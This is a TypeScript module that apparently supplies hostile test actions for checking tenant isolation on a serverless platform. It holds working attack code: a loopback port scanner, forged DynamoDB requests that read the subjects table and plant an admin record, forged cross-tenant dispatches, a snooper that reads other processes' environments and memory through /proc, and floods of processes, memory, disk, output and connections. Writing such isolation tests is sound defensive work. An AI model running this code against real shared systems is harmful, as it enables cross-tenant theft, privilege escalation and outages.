/**
 * Action code an attacker would deploy, as source strings (they run inside action containers).
 * Every network probe stays on 127.0.0.1 and is bounded in count and time.
 */

/** Node code defining `scanLoopback(timeoutMs, concurrency)`: every open TCP port of 127.0.0.1. */
export const SCAN_LOOPBACK = `
const net = require('net');
function portOpen(port, timeoutMs) {
  return new Promise((resolve) => {
    const socket = net.connect({ host: '127.0.0.1', port });
    const done = (open) => { socket.destroy(); resolve(open); };
    socket.setTimeout(timeoutMs, () => done(false));
    // A connect to the ephemeral port the kernel just gave this socket connects to itself; not a listener.
    socket.once('connect', () => done(socket.localPort !== socket.remotePort));
    socket.once('error', () => done(false));
  });
}
async function scanLoopback(timeoutMs, concurrency) {
  const open = [];
  let next = 1;
  const worker = async () => {
    while (next <= 65535) {
      const port = next++;
      if (await portOpen(port, timeoutMs)) open.push(port);
    }
  };
  await Promise.all(Array.from({ length: concurrency }, worker));
  return open.sort((a, b) => a - b);
}
`;

/**
 * Node code defining `forgeDynamo(port, operation, body)`: a DynamoDB call with a made-up SigV4
 * header (the attacker knows no key), answered with its status and the start of its body.
 */
export const FORGE_DYNAMO = `
const http = require('http');
function forgeDynamo(port, operation, body) {
  return new Promise((resolve) => {
    const data = JSON.stringify(body);
    const date = new Date().toISOString().replace(/[-:]/g, '').replace(/\\.\\d+/, '');
    const req = http.request({
      host: '127.0.0.1', port, path: '/', method: 'POST', timeout: 2000,
      headers: {
        'content-type': 'application/x-amz-json-1.0',
        'content-length': Buffer.byteLength(data),
        'x-amz-target': 'DynamoDB_20120810.' + operation,
        'x-amz-date': date,
        authorization: 'AWS4-HMAC-SHA256 Credential=AKIAFORGED/' + date.slice(0, 8) + '/us-east-1/dynamodb/aws4_request, SignedHeaders=content-type;host;x-amz-date;x-amz-target, Signature=' + '0'.repeat(64),
      },
    }, (res) => {
      let text = '';
      res.setEncoding('utf8');
      res.on('data', (c) => { if (text.length < 300) text += c; });
      res.on('end', () => resolve({ status: res.statusCode, body: text.slice(0, 300) }));
    });
    req.on('timeout', () => req.destroy(new Error('timeout')));
    req.on('error', (error) => resolve({ error: error.code || String(error.message) }));
    req.end(data);
  });
}
`;

/** Node code defining \`forgeDispatch(port, message, authorization)\`: posts an activation message as a controller would. */
const FORGE_DISPATCH = `
function forgeDispatch(port, message, authorization) {
  const http = require('http');
  return new Promise((resolve) => {
    const data = JSON.stringify(message);
    const headers = { 'content-type': 'application/json', 'content-length': Buffer.byteLength(data), ...(authorization ? { authorization } : {}) };
    const req = http.request({ host: '127.0.0.1', port, path: '/activations', method: 'POST', timeout: 2000, headers }, (res) => {
      let text = '';
      res.setEncoding('utf8');
      res.on('data', (c) => { if (text.length < 300) text += c; });
      res.on('end', () => resolve({ status: res.statusCode, body: text.slice(0, 300) }));
    });
    req.on('timeout', () => req.destroy(new Error('timeout')));
    req.on('error', (error) => resolve({ error: error.code || String(error.message) }));
    req.end(data);
  });
}
`;

/**
 * Scans 127.0.0.1, then on each open port tries to read every subject, to plant an admin subject,
 * and to have an invoker run \`dispatch\` (an activation message of another tenant's action)
 * without the dispatch secret and with a guessed one.
 */
export const SCAN_AND_FORGE_ACTION = `${SCAN_LOOPBACK}${FORGE_DYNAMO}${FORGE_DISPATCH}
async function main({ subjectsTable, forgedUuid, forgedKeyHash, dispatch }) {
  const open = await scanLoopback(300, 200);
  const attempts = {};
  for (const port of open) {
    attempts[port] = {
      scan: await forgeDynamo(port, 'Scan', { TableName: subjectsTable }),
      put: await forgeDynamo(port, 'PutItem', {
        TableName: subjectsTable,
        Item: { uuid: { S: forgedUuid }, keyHash: { S: forgedKeyHash }, subject: { S: 'pwned' }, namespace: { S: 'pwned' }, admin: { BOOL: true } },
      }),
      dispatch: await forgeDispatch(port, dispatch),
      dispatchGuessed: await forgeDispatch(port, dispatch, 'Bearer ' + '0'.repeat(64)),
    };
  }
  return { open, attempts };
}`;

/** Reads what it can of every other process (environment, memory) and of the given paths; looks for `needle`. */
export const SNOOP_ACTION = `
const fs = require('fs');
function tryRead(read) { try { return { ok: true, value: read() }; } catch (error) { return { ok: false, code: error.code }; } }
async function main({ paths, needle }) {
  const self = String(process.pid);
  const pids = fs.readdirSync('/proc').filter((p) => /^\\d+$/.test(p) && p !== self);
  const environ = [], memory = [];
  let found = false;
  for (const pid of pids) {
    const env = tryRead(() => fs.readFileSync('/proc/' + pid + '/environ', 'latin1'));
    if (env.ok) { environ.push(pid); if (env.value.includes(needle)) found = true; }
    const maps = tryRead(() => fs.readFileSync('/proc/' + pid + '/maps', 'utf8'));
    if (!maps.ok) continue;
    const mem = tryRead(() => {
      const fd = fs.openSync('/proc/' + pid + '/mem', 'r');
      try {
        for (const line of maps.value.split('\\n')) {
          const m = /^([0-9a-f]+)-([0-9a-f]+) rw/.exec(line);
          if (!m) continue;
          const start = parseInt(m[1], 16), size = Math.min(parseInt(m[2], 16) - start, 16 * 1024 * 1024);
          const buf = Buffer.alloc(size);
          try { fs.readSync(fd, buf, 0, size, start); } catch { continue; }
          if (buf.includes(needle)) return true;
        }
        return false;
      } finally { fs.closeSync(fd); }
    });
    if (mem.ok) { memory.push(pid); if (mem.value) found = true; }
  }
  const files = {};
  for (const path of paths) {
    const r = tryRead(() => (fs.statSync(path).isDirectory() ? fs.readdirSync(path).join(',') : fs.readFileSync(path, 'utf8')));
    files[path] = r.ok ? 'read' : r.code;
  }
  return { others: pids.length, environ, memory, found, files };
}`;

/** Starts `count` sleeping children at once; reports how many started and the errors of the rest. */
export const FORK_BOMB_ACTION = `
async function main({ count }) {
  const { spawn } = require('child_process');
  const children = [], errors = {};
  for (let i = 0; i < count; i++) {
    const child = spawn('sleep', ['300'], { stdio: 'ignore' });
    children.push(new Promise((resolve) => {
      child.once('spawn', () => resolve(child));
      child.once('error', (error) => { errors[error.code] = (errors[error.code] || 0) + 1; resolve(undefined); });
    }));
  }
  const started = (await Promise.all(children)).filter(Boolean);
  await Promise.all(started.map((child) => new Promise((resolve) => { child.once('exit', resolve); child.kill('SIGKILL'); })));
  return { started: started.length, errors };
}`;

/** Holds `mb` MB of buffers outside the V8 heap (which --max-old-space-size does not cap). */
export const MEMORY_FLOOD_ACTION = `
function main({ mb }) {
  const held = [];
  for (let i = 0; i < mb / 16; i++) held.push(Buffer.alloc(16 * 1024 * 1024, i));
  return { held: held.length * 16 };
}`;

/** Writes 1 MB chunks to a file in the scratch directory until the write fails or `mb` is reached. */
export const DISK_FLOOD_ACTION = `
function main({ mb }) {
  const fs = require('fs');
  const file = require('os').tmpdir() + '/flood';
  const chunk = Buffer.alloc(1024 * 1024, 'x');
  let written = 0, error;
  try {
    const fd = fs.openSync(file, 'w');
    try { while (written < mb) { fs.writeSync(fd, chunk); written++; } } finally { fs.closeSync(fd); }
  } catch (e) { error = e.code; }
  try { fs.rmSync(file); } catch {}
  return { written, error, tmp: require('os').tmpdir() };
}`;

/** Prints `mb` MB to stdout as fast as the pipe takes it. */
export const STDOUT_FLOOD_ACTION = `
async function main({ mb }) {
  const line = 'y'.repeat(1024 * 1024 - 1) + '\\n';
  for (let i = 0; i < mb; i++) {
    if (!process.stdout.write(line)) await new Promise((resolve) => process.stdout.once('drain', resolve));
  }
  return { printed: mb };
}`;

/**
 * Answers its own /run with \`mb\` MB on the runtime's connection (taken from the proxy's open
 * handles), never holding more than 1 MB: what used to end the shared invoker.
 */
export const HUGE_RESPONSE_ACTION = `
async function main({ mb }) {
  const net = require('net');
  const socket = process._getActiveHandles().find((h) => h instanceof net.Socket && h._httpMessage);
  const res = socket._httpMessage;
  res.writeHead(200, { 'content-type': 'application/json' });
  res.write('{"x":"');
  const chunk = Buffer.alloc(1024 * 1024, 'x');
  for (let i = 0; i < mb && !res.destroyed; i++) {
    if (!res.write(chunk)) await new Promise((resolve) => { res.once('drain', resolve); res.once('close', resolve); });
  }
  if (!res.destroyed) res.end('"}');
  return new Promise(() => {});
}`;

/** Opens up to `perPort` idle connections to each loopback port and holds them for `holdMs`. */
export const CONNECTION_FLOOD_ACTION = `
const net = require('net');
async function main({ ports, perPort, holdMs }) {
  const held = {};
  const sockets = [];
  for (const port of ports) {
    held[port] = 0;
    await Promise.all(Array.from({ length: perPort }, () => new Promise((resolve) => {
      const socket = net.connect({ host: '127.0.0.1', port });
      socket.once('connect', () => { held[port]++; sockets.push(socket); resolve(); });
      socket.once('error', () => resolve());
    })));
  }
  await new Promise((resolve) => setTimeout(resolve, holdMs));
  const open = sockets.filter((s) => !s.destroyed).length;
  sockets.forEach((s) => s.destroy());
  return { held, stillOpen: open };
}`;
